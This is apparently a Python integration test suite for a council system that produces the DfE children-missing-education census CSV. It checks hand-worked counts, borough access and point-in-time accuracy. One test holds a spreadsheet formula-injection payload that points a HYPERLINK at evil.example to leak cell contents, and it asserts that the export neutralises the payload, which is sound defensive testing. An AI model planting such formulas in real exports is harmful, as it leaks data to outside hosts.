"""The DfE CME return against counts worked out by hand for a fixture of 56 cases.

Census date Thursday 1 October 2026 (academic year 2026/27); twelve weeks before it is 9 July 2026.
Year groups: born 10 Mar 2016 or 1 Sep 2015 -> Year 6; 5 Oct 2012 -> Year 9; 1 Sep 2010 -> Year 11;
15 Jan 2019 -> Year 3.

| group | cases | borough | what happens                                   | on 1 Oct 2026                      |
|-------|-------|---------|------------------------------------------------|------------------------------------|
| G1    | 12    | WCC     | ground (i), F, Y6, deleted 14 Sep              | open, <= 12 weeks                  |
| G2    | 8     | WCC     | ground (h), M, Y9, deleted 1 Jun               | open, > 12 weeks (122 days)        |
| G3    | 6     | WCC     | moved, no forwarding address; sex, DOB unknown | open, unknown                      |
| G4    | 5     | WCC     | failed to start, F, Y6, no date                | open, unknown                      |
| G5    | 4     | WCC     | ground (i), closed 25 Sep                      | not counted                        |
| G6    | 3     | WCC     | ground (i), M, Y6, deleted 20 Aug, closed 15 Oct| open, <= 12 weeks                 |
| G7    | 2     | WCC     | ground (i), closed on the census date          | not counted                        |
| G8    | 4     | WCC     | referred 5 Oct, after the census date          | not counted                        |
| G9    | 3     | RBKC    | public concern, F, Y3                          | open, unknown                      |
| G10   | 2     | WCC     | ground (a) with destination: no case           | not counted                        |
| G11   | 2     | WCC     | (i) closed 1 Jul, reopened 22 Sep as (h), F, Y6| open as (h), <= 12 weeks (21 Sep)  |
| G12   | 2     | WCC     | (i) closed 20 Aug, reopened 20 Oct             | not counted                        |
| G13   | 3     | WCC     | as G1, plus a second referral that joins       | open (counted once each)           |
| G14   | 1     | WCC     | ground (i), child protection plan, M, Y11      | open, <= 12 weeks                  |
| G15   | 1     | none    | failed to start, M, DOB unknown                | open (unassigned), unknown         |
| G16   | 2     | WCC     | ground (f) EHE notice, (e) SAO revoked: no case| not counted (routed to EHE)        |
| G17   | 1     | WCC     | ground (i) 1 May, born 1 Jun 2010, still open  | not counted: left school 26 Jun    |
| G18   | 1     | WCC     | public concern about a 2-year-old: no case     | not counted (below school age)     |

G16-G18 are the statutory review's D4 and D5 (Education Act 1996 s436A, s8; DfE CME guidance, 8 Sep 2025).
"""

import csv
import io
import uuid
from datetime import date

import pytest

pytestmark = pytest.mark.integration

CENSUS = "2026-10-01"
HEADER = ["census_date", "borough", "reason", "sex", "year_group", "time_missing", "count"]
EXPECTED = [  # worked out by hand from the table above
    ["kensington_and_chelsea", "concern_reported", "female", "3", "unknown", "3"],
    ["unassigned", "failed_to_start", "male", "unknown", "unknown", "1"],
    ["westminster", "failed_to_start", "female", "6", "unknown", "5"],
    ["westminster", "moved_no_forwarding_address", "unknown", "unknown", "unknown", "6"],
    ["westminster", "not_returned_after_leave", "female", "6", "12_weeks_or_less", "2"],
    ["westminster", "not_returned_after_leave", "male", "9", "more_than_12_weeks", "8"],
    ["westminster", "unexplained_absence_20_days", "female", "6", "12_weeks_or_less", "15"],
    ["westminster", "unexplained_absence_20_days", "male", "11", "12_weeks_or_less", "1"],
    ["westminster", "unexplained_absence_20_days", "male", "6", "12_weeks_or_less", "3"],
]

Y6, Y9, Y11, Y3 = date(2016, 3, 10), date(2012, 10, 5), date(2010, 9, 1), date(2019, 1, 15)


async def close(stack, case_id, on: date) -> None:
    response = await stack.client.post(f"/cases/{case_id}/closure", headers=stack.headers("manager"), json={
        "reason": "on_roll_elsewhere", "closed_on": on.isoformat(),
        "evidence": {"school_urn": "123456", "start_date": on.isoformat(), "confirmed_by": "admissions"}})
    assert response.status_code == 200, response.text


async def build_fixture(stack, make_referral) -> int:
    async def cases(count, **kwargs):
        return [await stack.referral(make_referral(**kwargs)) for _ in range(count)]

    ground_i_f = {"ground": "9(1)(i)", "sex": "female", "dob": Y6}
    await cases(12, **ground_i_f, deletion_date=date(2026, 9, 14), received_on=date(2026, 9, 15))  # G1
    await cases(8, ground="9(1)(h)", sex="male", dob=Y9, deletion_date=date(2026, 6, 1), received_on=date(2026, 6, 2))
    await cases(6, kind="moved_no_forwarding_address", sex="unknown", dob=None, received_on=date(2026, 9, 20))  # G3
    await cases(5, kind="failed_to_start", sex="female", dob=date(2015, 9, 1), received_on=date(2026, 9, 10))  # G4
    for case_id in await cases(4, ground="9(1)(i)", sex="male", dob=Y6, received_on=date(2026, 9, 1)):  # G5
        await close(stack, case_id, date(2026, 9, 25))
    for case_id in await cases(3, ground="9(1)(i)", sex="male", dob=Y6, deletion_date=date(2026, 8, 20),
                               received_on=date(2026, 9, 2)):  # G6
        await close(stack, case_id, date(2026, 10, 15))
    for case_id in await cases(2, ground="9(1)(i)", sex="male", dob=Y6, received_on=date(2026, 9, 3)):  # G7
        await close(stack, case_id, date(2026, 10, 1))
    await cases(4, **ground_i_f, received_on=date(2026, 10, 5))  # G8
    await cases(3, kind="child_not_in_school_concern", source="public", sex="female", dob=Y3,
                borough="kensington_and_chelsea", received_on=date(2026, 9, 21))  # G9
    assert await cases(2, ground="9(1)(a)", destination=("123456", date(2026, 9, 14)),
                       received_on=date(2026, 9, 10)) == [None, None]  # G10
    for _ in range(2):  # G11
        child = uuid.uuid4()
        [first] = await cases(1, child=child, **ground_i_f, deletion_date=date(2026, 6, 8),
                              received_on=date(2026, 6, 10))
        await close(stack, first, date(2026, 7, 1))
        assert await cases(1, child=child, ground="9(1)(h)", sex="female", dob=Y6, deletion_date=date(2026, 9, 21),
                           received_on=date(2026, 9, 22)) == [first]
    for _ in range(2):  # G12
        child = uuid.uuid4()
        [first] = await cases(1, child=child, ground="9(1)(i)", sex="male", dob=Y9, deletion_date=date(2026, 7, 1),
                              received_on=date(2026, 7, 15))
        await close(stack, first, date(2026, 8, 20))
        await cases(1, child=child, ground="9(1)(i)", sex="male", dob=Y9, received_on=date(2026, 10, 20))
    for _ in range(3):  # G13
        child = uuid.uuid4()
        [first] = await cases(1, child=child, **ground_i_f, deletion_date=date(2026, 9, 14),
                              received_on=date(2026, 9, 15))
        assert await cases(1, child=child, kind="change_of_circumstances", received_on=date(2026, 9, 20)) == [first]
    await cases(1, ground="9(1)(i)", sex="male", dob=Y11, flags={"child_protection_plan": True},
                deletion_date=date(2026, 9, 1), received_on=date(2026, 9, 2))  # G14
    await cases(1, kind="failed_to_start", sex="male", dob=None, borough=None, received_on=date(2026, 9, 10))  # G15
    assert await cases(1, ground="9(1)(f)", received_on=date(2026, 9, 10)) == [None]  # G16
    assert await cases(1, ground="9(1)(e)", received_on=date(2026, 9, 10)) == [None]
    await cases(1, ground="9(1)(i)", sex="female", dob=date(2010, 6, 1), deletion_date=date(2026, 4, 30),
                received_on=date(2026, 5, 1))  # G17: open, but over compulsory school age on 1 Oct 2026
    assert await cases(1, kind="child_not_in_school_concern", source="public", dob=date(2024, 6, 1),
                       received_on=date(2026, 9, 21)) == [None]  # G18
    response = await stack.client.get("/cases?limit=500", headers=stack.headers("manager"))
    return len(response.json())


def rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(response.text)))
    assert table[0] == HEADER and all(row[0] == CENSUS for row in table[1:])
    return [row[1:] for row in table[1:]]


async def test_the_cme_census_return_matches_the_counts_worked_out_by_hand(stack, make_referral):
    assert await build_fixture(stack, make_referral) == 57
    census = f"/returns/cme-census?census_date={CENSUS}"
    assert rows(await stack.client.get(census, headers=stack.headers("manager"))) == EXPECTED
    westminster = rows(await stack.client.get(census, headers=stack.headers("officer", borough="westminster")))
    assert westminster == [row for row in EXPECTED if row[0] == "westminster"]
    assert sum(int(row[-1]) for row in westminster) == 40
    rbkc = rows(await stack.client.get(census, headers=stack.headers("officer", borough="kensington_and_chelsea")))
    assert rbkc == [EXPECTED[0]]
    only = rows(await stack.client.get(f"{census}&borough=kensington_and_chelsea", headers=stack.headers("manager")))
    assert only == [EXPECTED[0]]
    other = await stack.client.get(f"{census}&borough=westminster",
                                   headers=stack.headers("officer", borough="kensington_and_chelsea"))
    assert other.status_code == 404


async def test_the_census_counts_each_case_as_it_stood_on_the_census_date(stack, make_referral):
    """After 1 Oct: one child's sex is rectified, one case moves borough, and one case learns when its child was
    last in education. The 1 Oct return is unchanged by all three; a return dated today shows them."""
    from datetime import UTC, datetime

    from cme_casework.service_layer.rights import on_rectification
    from cme_shared.contracts.rights import FactualRectification

    manager = stack.headers("manager")
    referral = {"ground": "9(1)(i)", "sex": "female", "dob": Y6, "received_on": date(2026, 9, 15)}
    rectified_child = uuid.uuid4()
    await stack.referral(make_referral(child=rectified_child, deletion_date=date(2026, 9, 14), **referral))
    moved = await stack.referral(make_referral(deletion_date=date(2026, 9, 14), **referral))
    learned = await stack.referral(make_referral(**referral))

    async with stack.unit_of_work() as uow:
        await on_rectification(uow, FactualRectification(
            event_id=uuid.uuid4(), occurred_at=datetime.now(UTC), rights_request_id=uuid.uuid4(),
            subject_id=rectified_child, field="sex", new_value="male", decided_by="dpo-1"))
        await uow.commit()
    moving = await stack.client.post(f"/cases/{moved}/borough", headers=manager,
                                     json={"borough": "kensington_and_chelsea", "reason": "family moved"})
    assert moving.status_code == 200, moving.text
    asked = await stack.client.post(f"/cases/{learned}/enquiries", headers=manager, json={
        "whom": "school", "asked_on": "2026-09-20", "purpose": "last day attended?", "answered_on": "2026-10-10",
        "outcome": "information_provided",
        "facts": [{"field": "last_in_education_on", "value": "2026-09-01", "confirmed_by": "school"}]})
    assert asked.status_code == 201, asked.text

    on_the_day = rows(await stack.client.get(f"/returns/cme-census?census_date={CENSUS}", headers=manager))
    assert on_the_day == [
        ["westminster", "unexplained_absence_20_days", "female", "6", "12_weeks_or_less", "2"],
        ["westminster", "unexplained_absence_20_days", "female", "6", "unknown", "1"],
    ]
    rbkc = stack.headers("officer", borough="kensington_and_chelsea")
    assert rows(await stack.client.get(f"/returns/cme-census?census_date={CENSUS}", headers=rbkc)) == []

    now = stack.runtime.clock.today().isoformat()
    response = await stack.client.get(f"/returns/cme-census?census_date={now}", headers=manager)
    assert response.status_code == 200, response.text
    later = [row[1:] for row in csv.reader(io.StringIO(response.text))][1:]  # borough, reason, sex, year, time, n
    assert sorted((r[0], r[2], r[5]) for r in later) == [
        ("kensington_and_chelsea", "female", "1"), ("westminster", "female", "1"), ("westminster", "male", "1")]
    assert all(r[4] != "unknown" for r in later)  # every case now knows when its child was last in education


async def test_no_census_cell_can_be_read_as_a_formula(stack, make_referral):
    """SEC-26: a forged referral's `child_sex` never reaches the case; a value already in the history from
    before that check (written here as the old code wrote it) reaches the CSV only as text."""
    from dataclasses import replace

    from cme_casework.domain import opening, referral_entries
    from cme_casework.domain.lifecycle import CaseState
    from cme_casework.service_layer.case_writes import append_entries

    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
    forged = await stack.referral(make_referral(sex=formula, dob=Y6, received_on=date(2026, 9, 15),
                                                deletion_date=date(2026, 9, 14)))
    detail = (await stack.client.get(f"/cases/{forged}", headers=stack.headers("manager"))).json()
    assert detail["child"]["sex"] == "unknown"

    legacy = make_referral(sex="female", dob=Y6, received_on=date(2026, 9, 15), deletion_date=date(2026, 9, 14),
                           borough="kensington_and_chelsea")
    [opened, *rest] = referral_entries.open_case(legacy, opening.decide(legacy), uuid.uuid4(), date(2026, 9, 15))
    opened = replace(opened, detail={**opened.detail, "child": {**opened.detail["child"], "sex": formula}})
    async with stack.unit_of_work() as uow:
        await append_entries(uow, CaseState(), [opened, *rest], case_id=uuid.UUID(opened.detail["case_id"]),
                             child_subject_id=legacy.child_subject_id)
        await uow.commit()

    response = await stack.client.get(f"/returns/cme-census?census_date={CENSUS}", headers=stack.headers("manager"))
    table = rows(response)
    assert ["kensington_and_chelsea", "unexplained_absence_20_days", "'" + formula, "6", "12_weeks_or_less",
            "1"] in table
    assert ["westminster", "unexplained_absence_20_days", "unknown", "6", "12_weeks_or_less", "1"] in table
    assert not [cell for row in table for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


async def test_the_children_cme_at_any_time_in_the_academic_year(stack, make_referral):
    """The DfE CME return's "at any time in the academic year" figure, 2025/26: each child once, of
    compulsory school age, EHE notices not counted; routed referrals listed for the EHE team."""
    child = uuid.uuid4()
    [first] = [await stack.referral(make_referral(child=child, received_on=date(2025, 10, 1)))]
    await close(stack, first, date(2025, 11, 3))
    assert await stack.referral(make_referral(child=child, received_on=date(2026, 1, 5))) == first  # reopened
    await stack.referral(make_referral(received_on=date(2026, 2, 2), borough="kensington_and_chelsea"))
    assert await stack.referral(make_referral(ground="9(1)(f)", received_on=date(2026, 2, 2))) is None
    await stack.referral(make_referral(received_on=date(2026, 9, 10)))  # the next year
    response = await stack.client.get("/returns/cme-any-time?academic_year=2025", headers=stack.headers("manager"))
    assert response.status_code == 200, response.text
    table = list(csv.reader(io.StringIO(response.text)))
    assert table == [["academic_year", "from", "to", "borough", "cme_at_any_time"],
                     ["2025/26", "2025-09-01", "2026-08-31", "kensington_and_chelsea", "1"],
                     ["2025/26", "2025-09-01", "2026-08-31", "westminster", "1"]]
    routed = await stack.client.get("/referrals/routed?route=elective_home_education",
                                    headers=stack.headers("officer", borough="westminster"))
    assert routed.status_code == 200, routed.text
    assert [(r["route"], r["deletion_ground"], r["decision"]) for r in routed.json()] == [
        ("elective_home_education", "9(1)(f)", "education_otherwise")]
    rbkc = await stack.client.get("/referrals/routed",
                                  headers=stack.headers("officer", borough="kensington_and_chelsea"))
    assert rbkc.json() == []
